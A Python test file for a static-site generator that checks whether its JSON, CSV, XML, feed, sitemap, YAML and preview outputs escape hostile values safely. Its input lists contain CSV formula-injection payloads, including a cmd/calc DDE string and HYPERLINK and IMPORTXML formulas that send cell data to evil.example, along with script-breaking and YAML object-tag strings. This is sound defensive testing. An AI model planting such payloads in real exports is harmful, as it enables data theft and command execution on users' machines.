"""Whatever a value holds, each output says just that and nothing more: read back by a strict reader of its format."""

from __future__ import annotations

import csv
import gzip
import html
import io
import json
import re
import unicodedata
from collections.abc import Callable
from datetime import date
from html.parser import HTMLParser
from pathlib import Path
from xml.etree import ElementTree as Xml

import pytest

from generator import briefing, frontmatter, rewriting, store
from generator.site import build, feed, preview_pages, search, wayfiles
from generator.site.context import SiteContext, prefix
from generator.site.output import Output
from generator.site.preview_server import Handler
from generator.views import escaping, lookup
from tests.safety import hostile_site
from tests.site import hostile
from tests.site.pelican_run import ROOT

VECTORS = hostile_site.vectors()
ODD = [
    "", " ", "a\nb", "a\r\nb", "\ttab", "\rreturn", "nul\0", "\x0b\x1f\x7f", "\ud800", "\ufffe", "\u2028\u2029", "]]>",
    "</script>", "<!--<script>", "-->", "&amp;", "&#0;", '"', '""', "'", "\\", "\\u003c", "%0a", "{{ x }}", "{% x %}",
    "\U0001f600", "e\u0301", "\u202eabc", "---\n", ": x", "- x", "# x", "!!python/object:os.system", "*a", "&a x", "~",
    "null", "yes", "0x10", "1e3", "2021-05-03", "@x", "`x`", "%TAG", "| x", "> x", "? x", "[", "{", "a: b", "a #b",
]  # fmt: skip
FORMULAS = [
    "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", "\ufeff=1+1",
    "\u200b=1+1", '"=1+1', "'\"=1+1", "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20SUM(1)",
    "=cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")', "=IMPORTXML(CONCAT(\"http://evil.example/\",A1),\"//a\")",
    "x;=1+1", 'x";"=1+1', "x\t=1+1", "x\n=1+1", "x\r\n=1+1", "x\r=1+1", "x|=1+1", 'x\n"=1+1', "\x00=1+1", "\x0b=1+1",
    "=" * 5000, " " * 5000 + "=1",
]  # fmt: skip
VALUES = [*VECTORS, *ODD, *FORMULAS]


def for_each(values: list[str]) -> Callable[[Callable[..., None]], Callable[..., None]]:
    """One test for all of them: thousands of lines would tell nobody more."""

    def over(test: Callable[..., None]) -> Callable[..., None]:
        def all_of_them() -> None:
            for value in values:
                try:
                    test(value)
                except Exception as error:
                    raise AssertionError(f"with {value[:200]!r}") from error

        all_of_them.__name__ = test.__name__
        return all_of_them

    return over


def known(text: str) -> str:
    """The text as XML and UTF-8 can hold it."""
    return escaping.legal(text)


# ---- what exports call ----


@for_each(VALUES)
def test_json_says_what_it_was_given(value: str) -> None:
    given = {"name": value, value: [value, None, 3, {"x": value}]}
    clean = re.sub("[\ud800-\udfff]", "\ufffd", value)
    wanted = {"name": clean, clean: [clean, None, 3, {"x": clean}]}
    for made in (escaping.json_text(given), escaping.json_text(given, indent=1), str(escaping.json_in_html(given))):
        assert json.loads(made) == wanted
        made.encode("utf-8")


@for_each(VALUES)
def test_json_in_a_page_neither_ends_its_element_nor_a_line_of_a_script(value: str) -> None:
    data: list[str] = []

    class Reader(HTMLParser):
        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
            data.append(f"<{tag}>")

        def handle_data(self, text: str) -> None:
            data.append(text)

    reader = Reader()
    block = escaping.json_ld({"@type": "Event", "name": value})
    reader.feed(f"{block}<p>behind</p>")
    assert (data[0], data[-2:]) == ("<script>", ["<p>", "behind"])
    assert json.loads("".join(data[1:-2]))["@type"] == "Event"
    inner = str(escaping.json_in_html({"name": value}))
    assert not set(inner) & set("<>&'\u2028\u2029\n\r")
    assert html.unescape(inner) == inner


def test_json_refuses_what_it_cannot_say() -> None:
    for number in (float("nan"), float("inf")):
        with pytest.raises(ValueError, match="not JSON compliant"):
            escaping.json_text({"value": number})
    with pytest.raises(TypeError):
        escaping.json_text({"value": {1, 2}})


def test_json_is_the_same_whatever_the_order_of_its_keys() -> None:
    assert escaping.json_text({"b": 1, "a": 2}) == escaping.json_text({"a": 2, "b": 1}) == '{"a":2,"b":1}'


@for_each(VALUES)
def test_a_cell_is_read_as_the_text_that_it_was(value: str) -> None:
    made = escaping.csv_table(["first", "second"], [[value, 3], ["x", value]])
    rows = list(csv.reader(io.StringIO(made, newline=""), strict=True))
    assert rows[0] == ["first", "second"]
    assert [len(row) for row in rows] == [2, 2, 2]
    clean = re.sub("[\\x00-\\x08\\x0b\\x0c\\x0e-\\x1f\\x7f\ud800-\udfff]", "\ufffd", value)
    clean = re.sub("\r\n?|[\x85\u2028\u2029]", "\n", clean)
    assert rows[1][0].replace("'", "") == clean.replace("'", "")
    assert rows[1][0] == rows[2][1]


@for_each([sign + value for sign in (",", ";", "\t", "|") for value in FORMULAS])
def test_no_cell_is_a_formula_however_the_table_is_read(given: str) -> None:
    """Also where a spreadsheet parts cells by another sign, with and without regard to quotation marks."""
    sign, value = given[0], given[1:]
    made = escaping.csv_table(["=first", "second"], [["x", value], [value, value]])
    cells = [cell for row in csv.reader(io.StringIO(made, newline=""), delimiter=sign) for cell in row]
    if sign != ",":
        cells += [cell for line in re.split("\r\n?|\n", made) for cell in line.split(sign)]
    for cell in cells:
        seen = "".join(c for c in cell if not c.isspace() and unicodedata.category(c) not in ("Cf", "Cc")).lstrip('"')
        assert not unicodedata.normalize("NFKC", seen[:1]).startswith(("=", "+", "-", "@")), cell[:80]
        assert cell == "" or cell[0] not in "\t\r"


def test_numbers_stay_numbers() -> None:
    made = escaping.csv_table(["a", "b", "c", "d", "e"], [[-3, -2.5, True, None, "-3"]])
    assert made == '"a","b","c","d","e"\r\n"-3","-2.5","true","","\'-3"\r\n'
    with pytest.raises(ValueError, match="a row of 1 cells"):
        escaping.csv_table(["a", "b"], [["x"]])


@for_each(VALUES)
def test_xml_says_what_it_was_given(value: str) -> None:
    made = f"<a b=\"{escaping.xml(value)}\" c='{escaping.xml(value)}'>{escaping.xml(value)}</a>"
    read = Xml.fromstring(made)
    lines = re.sub("\r\n?", "\n", known(value))  # as every reader of XML does
    assert (read.text or "") == lines
    assert read.get("b") == read.get("c") == re.sub("[\t\n]", " ", lines)


# ---- what the site has ----


@for_each(VALUES)
def test_a_feed_says_what_it_was_given(value: str) -> None:
    entry = feed.Entry(value, value, value, date(2031, 3, 4), value, (value,))
    made = feed.atom(
        id=value, title=value, author=value, link=value, feed_link=value, updated=date(2031, 3, 4), lang=value,
        entries=[entry],
    )  # fmt: skip
    root = Xml.fromstring(made.encode("utf-8"))
    texts = {node.tag.partition("}")[2] for node in root.iter()}
    assert texts <= {"feed", "id", "title", "updated", "author", "name", "link", "entry", "category", "summary"}
    wanted = re.sub("\r\n?", "\n", known(value))
    one = root.find(f"{{{feed.ATOM}}}entry/{{{feed.ATOM}}}title")
    assert one is not None
    assert (one.text or "").split() == wanted.split()


@for_each(VALUES)
def test_a_sitemap_holds_addresses_alone(value: str) -> None:
    address = "/events/" + re.sub("[\ud800-\udfff]", "", value) + "/"
    root = Xml.fromstring(wayfiles.sitemaps(SiteContext("x", url="https://x.example"), [address])["sitemap.xml"])
    (only,) = root.iter("{http://www.sitemaps.org/schemas/sitemap/0.9}loc")
    assert re.fullmatch(r"https://x\.example/events/[\w.~!$&'()*+,;=:@%/#?-]*", only.text or "", re.ASCII)


@pytest.mark.parametrize(
    "bad", ["https://x.example/\nDisallow: /", "https://x.example/\u2028x", "/a\tb", "/a\x00", "/ b"]
)
def test_no_address_of_a_site_adds_a_line_to_robots_txt(bad: str) -> None:
    with pytest.raises(ValueError, match="SITEURL"):
        prefix(bad)


@for_each(VALUES)
def test_yaml_that_is_written_back_is_read_as_it_was_meant(value: str) -> None:
    line = hostile_site.line_of(value)
    if not line or frontmatter.unseen(line):
        return
    for mapping in ({"title": line}, {"names": [line, line]}, {"rows": [{"what": line}]}):
        assert frontmatter.load(frontmatter.block(mapping))[0] == mapping
    edited = rewriting.mapping("title: x # kept\nother: y\n", {"title": line, "other": "y"})
    assert frontmatter.load(edited)[0] == {"title": line, "other": "y"}
    assert "\nother: y\n" in edited


# ---- the whole of a hostile site ----


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, build.Built]:
    """Its folder, and what the build gave. What is opened in Chromium is `tests/browser/test_vectors.py`."""
    folder = tmp_path_factory.mktemp("outputs")
    content = hostile_site.content(folder, VECTORS, 12)
    lines = [line for line in map(hostile_site.line_of, VECTORS) if line]
    pairs = [{"pair": [f"e{i}", f"e{i + 1}"], "score": 0.5, "reasons": [line]} for i, line in enumerate(lines[:20])]
    (content / "proposals.yaml").write_text(frontmatter.block({"proposals": pairs}), encoding="utf-8")
    rows = [{"page": f"notes/n{i}.md", "field": line, "yours": line, "new": line} for i, line in enumerate(lines)]
    (content / "conflicts.yaml").write_text(frontmatter.block({"conflicts": rows}), encoding="utf-8")
    linked, problems = briefing.link(store.load(content))
    output = Output(folder / "output")
    built = build.build(lookup.of(linked), content, ROOT / "theme", "https://x.example/p", output)
    output.finish()
    (folder / "preview").mkdir()
    preview_pages.write(folder / "preview", built, content, [*problems, *built.problems], linked)
    return folder, built


def test_every_file_for_machines_is_whole(site: tuple[Path, build.Built]) -> None:
    output = site[0] / "output"
    for path in [output / "sitemap.xml", *sorted(output.rglob("*.atom.xml"))]:
        root = Xml.fromstring(path.read_bytes())
        assert len(list(root)) > 5
        for node in root.iter():
            for key, value in node.attrib.items():
                if key == "href":
                    assert value.startswith("https://x.example/p/")
    robots = (output / "robots.txt").read_text()
    assert robots == "User-agent: *\nDisallow:\n\nSitemap: https://x.example/p/sitemap.xml\n"
    calendar = (output / "chronology.ics").read_bytes().decode("utf-8")
    lines = calendar.replace("\r\n ", "").removesuffix("\r\n").split("\r\n")
    assert not any("\r" in line or "\n" in line for line in lines)
    assert {re.split("[;:]", line)[0] for line in lines} <= CALENDAR
    assert calendar.count("BEGIN:VEVENT\r\n") == calendar.count("\r\nSUMMARY:") > 10
    state = json.loads((site[0] / "preview" / "next.json").read_text())
    assert set(state) == {"waiting", "left_out", "paths", "problems"}


def test_every_table_and_record_is_whole_and_holds_no_formula(site: tuple[Path, build.Built]) -> None:
    output = site[0] / "output"
    tables, records = sorted(output.rglob("*.csv")), sorted(output.rglob("*.json"))
    assert len(tables) > 2
    assert len(records) > 20
    for path in tables:
        rows = list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8"), newline=""), strict=True))
        assert len({len(row) for row in rows}) == 1, path.name
        for row in rows:
            for cell in row:
                seen = re.sub('\\A[\\s"\u200b-\u200f\ufeff]+', "", cell)
                assert not seen.startswith(("=", "+", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20")), path.name
                assert not seen.startswith("-") or re.fullmatch(r"-[\d.]+(e[+-]?\d+)?", cell), path.name
    for path in records:
        if search.FOLDER not in path.as_posix():
            text = path.read_bytes().decode("utf-8")
            for line in text.splitlines() if path.name.endswith(".ftm.json") else [text]:
                json.loads(line)


CALENDAR = frozenset(
    "BEGIN END VERSION PRODID CALSCALE NAME X-WR-CALNAME DESCRIPTION URL UID DTSTAMP DTSTART DTEND SUMMARY LOCATION "
    "GEO CATEGORIES STATUS TRANSP".split()
)
_SVG = re.compile(r"<svg\b[^>]*+>.*?</svg>", re.S)
_DRAWN = {"svg", "title", "desc", "line", "path", "text", "tspan", "a", "g", "circle", "rect", "use", "symbol", "defs"}


def test_every_drawing_is_well_formed_and_holds_what_is_drawn_alone(site: tuple[Path, build.Built]) -> None:
    drawings = 0
    for address, page in site[1].made.items():
        for svg in _SVG.findall(page.decode()):
            drawings += 1
            for node in Xml.fromstring(svg.replace("&nbsp;", "&#160;")).iter():
                assert node.tag.rpartition("}")[2] in _DRAWN, address
                for key, value in node.attrib.items():
                    assert not key.lower().startswith("on"), address
                    if key.rpartition("}")[2] == "href":
                        assert value.startswith(("https://x.example/p/", "#")), address
    assert drawings > 2


def test_no_page_has_a_script_of_its_own(site: tuple[Path, build.Built]) -> None:
    for address, page in site[1].made.items():
        for attributes, inside in re.findall(r"<script\b([^>]*)>(.*?)</script>", page.decode(), re.S):
            if 'type="application/ld+json"' in attributes:
                json.loads(inside)
                assert "<" not in inside
            else:
                assert re.fullmatch(r' type="module" src="https://x\.example/p/theme/\w+\.js\?v=\w{8}"', attributes), (
                    address
                )
                assert inside == ""


def test_the_desk_shows_what_it_asks_about_as_text(site: tuple[Path, build.Built]) -> None:
    page = (site[0] / "preview" / "desk.html").read_text(encoding="utf-8")
    assert page.count("&lt;script") > 20
    theme = r'<script type="module" src="https://x\.example/p/theme/\w+\.js\?v=\w{8}"></script>'
    assert hostile.faults(re.sub(theme, "", page)) == []


@pytest.mark.skipif(search.indexer() is None, reason="needs Pagefind")
def test_the_records_of_the_search_are_texts(site: tuple[Path, build.Built]) -> None:
    fragments = sorted((site[0] / "output" / search.FOLDER / "fragment").glob("*.pf_fragment"))
    assert len(fragments) > 40
    for path in fragments:
        record = json.loads(gzip.decompress(path.read_bytes()).removeprefix(b"pagefind_dcd"))
        assert record["url"].startswith("/")
        assert set(record["meta"]) <= {"title", "kind", "note", "image", "image_alt"}


def test_what_the_preview_says_of_faults_is_text() -> None:
    class State:
        number, failed, converted, folder = 3, VECTORS[0], None, Path()
        known = {  # noqa: RUF012
            "problems": [
                {"path": f"notes/{v}.md", "line": 1, "level": "error", "message": v, "remedy": v} for v in VALUES
            ]
        }

    handler = Handler.__new__(Handler)
    handler.state, handler.prefix, handler.path = State(), "/", "/"  # type: ignore[assignment]
    panel = handler._panel(3)
    tags: set[str] = set()

    class Reader(HTMLParser):
        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
            tags.add(tag)
            assert {name for name, _ in attrs} <= {
                "rel", "href", "class", "aria-label", "data-number", "data-wait", "open", "type", "src",
            }  # fmt: skip

    Reader().feed(panel)
    assert tags == {"link", "aside", "details", "summary", "p", "pre", "ol", "li", "code", "a", "script"}
    assert panel.count("<script") == 1
